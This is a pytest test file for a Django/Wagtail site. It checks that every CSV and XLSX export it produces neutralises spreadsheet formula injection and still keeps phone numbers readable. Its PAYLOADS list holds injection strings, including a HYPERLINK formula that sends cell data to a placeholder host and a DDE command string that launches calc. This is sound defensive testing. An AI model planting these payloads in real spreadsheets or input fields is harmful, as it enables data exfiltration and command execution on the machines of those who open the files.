"""Every CSV and XLSX file the site produces, filled with what people could type: no cell a spreadsheet would run as a
formula, phone numbers still readable. The files are found, not listed: every site URL of the access matrix with
every switch that turns a page into a file, and every admin view with an export button, from the URL conf."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query
from wagtail.models import Page, Workflow

from accounts.models import PersonalDataAccess
from content.models import Department, GlossaryTerm, Pillar, SafetyRules, Sector
from content.safety_defaults import first_rules_stream
from core.exports import neutralise_formula
from guides.models import GuideFeedback, GuidePage, OfficialSource
from reporting.models import ApiTokenScope, Difficulty, Indicator, Target
from reporting.tokens import issue
from teams.factories import VillageFactory
from teams.models import AdminArea, Member, Team
from tests.security.test_access_matrix import EXPECTED, world  # noqa: F401  the access matrix's world, reused
from training.models import TrainingModulePage

pytestmark = pytest.mark.django_db

# What people type that a spreadsheet would run: the issue's four, the other signs, the control characters a
# spreadsheet skips, a fullwidth equals sign, and a formula behind a blank.
PAYLOADS = [
    '=HYPERLINK("http://x.invalid/?d="&A1,"Bấm để xem")',
    "=1+2",
    "=cmd|' /C calc'!A0",
    "@SUM(2)",
    "+SUM(1;2)",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    "\uff1d1+2",
    " =1+2",
]
PHONE = "+84912345678"
SWITCHES = [
    "",
    "xuat=csv",
    "xuat=xlsx",
    "xuat=tang-truong-csv",
    "xuat=tang-truong-xlsx",
    "format=csv",
    "format=xlsx",
    "export=csv",
    "export=xlsx",
]
# Files that cannot hold what people typed: the member list template is the same for everyone, and the growth
# figures are months and counts under the series' own names.
WITHOUT_TYPED_TEXT = {
    "teams:import_template",
    "teams:coverage xuat=tang-truong-csv",
    "teams:coverage xuat=tang-truong-xlsx",
}
CSV_TYPES = ("text/csv",)
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def payloads():
    """A payload for each text field filled, in turn, so every kind ends up in some file."""
    while True:
        yield from PAYLOADS


@pytest.fixture
def typed_world(request, guide):
    """The access matrix's world with a formula in every text someone types and an export shows."""
    people, values = request.getfixturevalue("world")
    text = payloads()
    for team in Team.objects.all():
        team.name = next(text)
        team.save()
    for area in AdminArea.objects.all():
        area.name = next(text)
        area.save()
    for member in Member.objects.all():
        member.full_name = next(text)
        member.save()
    Member.objects.filter(pk=values["member"]).update(phone=PHONE)
    for user in people.values():
        user.first_name, user.last_name = next(text), next(text)
        user.save()
    Indicator.objects.filter(active=True).update(name=next(text), unit=next(text)[:30])
    indicator = Indicator.objects.filter(active=True).first()
    commune = AdminArea.objects.get(code=values["commune"])
    VillageFactory(name=next(text), parent=commune)
    Target.objects.create(area=commune, indicator=indicator, year=2026, value=100)
    Difficulty.objects.update(text=next(text), response=next(text))
    for model in (Pillar, Sector, Department):
        for item in model.objects.all():
            item.name, item.description = next(text), next(text)
            item.save()
    for page_model in (GuidePage, TrainingModulePage):
        for page in page_model.objects.all():
            page.title = next(text)
            page.last_reviewed = datetime.date(2020, 1, 1) if page_model is GuidePage else None
            page.save_revision().publish()
    GuideFeedback.objects.create(guide=guide, helpful=False, comment=next(text))
    next(text)
    Query.get("=1+2").add_hit()  # a payload Wagtail's lower-casing of search terms leaves as it is
    Redirect.objects.create(old_path="/cu/", redirect_link=next(text))
    PersonalDataAccess.objects.create(user=people["superuser"], action=next(text)[:40], subject=next(text))
    # Issue 22's shared content, listed and exported in the admin.
    OfficialSource.objects.create(title=next(text), url="https://chinhphu.vn/nguon-thu", issuer=next(text))
    GlossaryTerm.objects.create(term=next(text), slug="tu-thu", definition=next(text))
    rules = SafetyRules.current() or SafetyRules.objects.create(title="Quy tắc", rules=first_rules_stream())
    rules.title = next(text)[:80]
    rules.save()
    workflow = Workflow.objects.filter(active=True).first()
    if workflow is not None:
        workflow.start(GuidePage.objects.get(pk=guide.pk), people["superuser"])
    Page.objects.filter(pk=guide.pk).update(locked=True, locked_by=people["superuser"], locked_at=timezone.now())
    return people, values


def with_switch(url, switch):
    if not switch:
        return url
    return f"{url}{'&' if '?' in url else '?'}{switch}"


def rows_of(response):
    """Every row of a CSV or XLSX response, each a list of cells as (text, is a formula cell)."""
    content_type = response.get("Content-Type", "")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if content_type.startswith(CSV_TYPES):
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
        return [[(cell, False) for cell in row] for row in rows]
    book = load_workbook(io.BytesIO(body))
    return [
        [("" if cell.value is None else str(cell.value), cell.data_type == "f") for cell in row]
        for sheet in book.worksheets
        for row in sheet.iter_rows()
    ]


def is_file(response):
    content_type = response.get("Content-Type", "")
    return response.status_code == 200 and (content_type.startswith(CSV_TYPES) or content_type == XLSX_TYPE)


def admin_export_urls(patterns=None, prefix="", namespace=""):
    """Every admin URL without parameters whose view has an export button, from the URL conf."""
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from admin_export_urls(pattern.url_patterns, route, inner)
        elif isinstance(pattern, URLPattern) and not pattern.pattern.converters and "(?P<" not in route:
            view_class = getattr(pattern.callback, "view_class", None)
            initkwargs = getattr(pattern.callback, "view_initkwargs", {})
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                if initkwargs.get("list_export") or view_class.list_export:
                    yield f"{namespace}{pattern.name}", "/" + route.lstrip("^").rstrip("$")


def site_files(client, values):
    """(name, switch) -> response, for every site URL that answers with a file."""
    files = {}
    for name, (template, _expectations) in EXPECTED.items():
        url = template.format(**values)
        for switch in SWITCHES:
            response = client.get(with_switch(url, switch))
            if is_file(response):
                files[f"{name} {switch}".strip()] = response
    return files


def import_errors_file(client, values):
    """The member import's file of rows to fix, after importing a list whose every row is refused."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    rows = ["Họ và tên,Số điện thoại,Tổ chức"] + [f'"{payload}",0000,"{payload}"' for payload in PAYLOADS]
    upload = SimpleUploadedFile("danh-sach.csv", "\n".join(rows).encode())
    assert client.post(f"/to/{values['team']}/nhap-danh-sach/", {"file": upload}).status_code == 200
    return client.get(f"/to/{values['team']}/nhap-danh-sach/dong-loi.csv")


def api_files(client, people, values):
    _token, key = issue(people["superuser"], "Kiểm tra", None, scope=ApiTokenScope.PERSONAL)
    files = {}
    for url in ("/api/v2/reporting/results/", "/api/v2/reporting/training/", "/api/v2/reporting/completions/"):
        for switch in SWITCHES:
            response = client.get(with_switch(url, switch), HTTP_AUTHORIZATION=f"Bearer {key}")
            if is_file(response):
                files[f"{url} {switch}"] = response
    return files


def dangerous(cell):
    return neutralise_formula(cell) != cell


@pytest.fixture
def every_file(client, typed_world):
    people, values = typed_world
    client.force_login(people["superuser"])
    files = site_files(client, values)
    files["teams:member_import_errors"] = import_errors_file(client, values)
    for name, url in admin_export_urls():
        for export_format in ("csv", "xlsx"):
            files[f"{name} export={export_format}"] = client.get(f"{url}?export={export_format}")
    files.update(api_files(client, people, values))
    not_files = {name: (response.status_code, response.get("Content-Type")) for name, response in files.items()}
    assert {name: answer for name, answer in not_files.items() if not is_file(files[name])} == {}
    return {name: rows_of(response) for name, response in files.items()}


def test_every_file_the_site_produces_has_no_live_formula_and_keeps_phone_numbers(every_file):
    # The sweep found the files it must: our own downloads, the API's, Wagtail's reports and our admin listings.
    expected_at_least = {
        "teams:member_import_errors",
        "teams:coverage xuat=csv",
        "teams:coverage xuat=tang-truong-xlsx",
        "training:team_matrix xuat=xlsx",
        "reporting:difficulties xuat=csv",
        "/api/v2/reporting/completions/ format=csv",
        "wagtailadmin_reports:site_history export=csv",
        "wagtailsearchpromotions:search_terms export=csv",
        "wagtailsnippets_teams_member:list export=xlsx",
        "wagtailusers_users:index export=csv",
    }
    assert expected_at_least <= set(every_file), sorted(every_file)
    # Every listing has rows in this world: a file of blank lines (columns never named) is no export.
    blank = [name for name, rows in every_file.items() if not any(text for row in rows[1:] for text, _ in row)]
    assert blank == []
    live, without_payload, neutralised = {}, [], set()
    for name, rows in every_file.items():
        cells = [cell for row in rows for cell in row]
        live[name] = [text for text, is_formula in cells if is_formula or dangerous(text)]
        found = {text[1:] for text, _formula in cells if text.startswith("'") and text[1:] in PAYLOADS}
        neutralised |= found
        if not found and not {name, name.split(" ")[0]} & WITHOUT_TYPED_TEXT:
            without_payload.append(name)
    assert {name: cells for name, cells in live.items() if cells} == {}
    assert without_payload == [], f"checked without a typed formula in them: {without_payload}"
    assert neutralised == set(PAYLOADS)
    for name in ("wagtailsnippets_teams_member:list export=csv", "training:team_matrix xuat=xlsx"):
        assert PHONE in {text for row in every_file[name] for text, _formula in row}, name


SOURCE_ROOTS = ["content", "guides", "site"]
# `export = request.GET.get("xuat")`: the query parameters our views read to answer with a file instead of a page.
READS_A_SWITCH = re.compile(r"export\w* = [^\n]*GET\.get\(\"([\w-]+)\"\)")


def source_files():
    root = Path(__file__).resolve().parents[2]
    for folder in SOURCE_ROOTS:
        for path in (root / folder).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path.relative_to(root), path.read_text(encoding="utf-8")


def test_every_switch_to_a_file_in_our_code_is_swept():
    found = {name for _path, text in source_files() for name in READS_A_SWITCH.findall(text)}
    assert found and found <= {switch.split("=")[0] for switch in SWITCHES if switch}, found


ONE_PATH = Path("site/core/exports.py")
WRITES_SPREADSHEETS = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(|content_type=\"text/csv")


def test_only_the_one_export_path_writes_spreadsheets():
    """A view that writes CSV or XLSX by hand would skip the neutralising: only site/core/exports.py may."""
    writers = {path for path, text in source_files() if WRITES_SPREADSHEETS.search(text)}
    assert writers == {ONE_PATH}
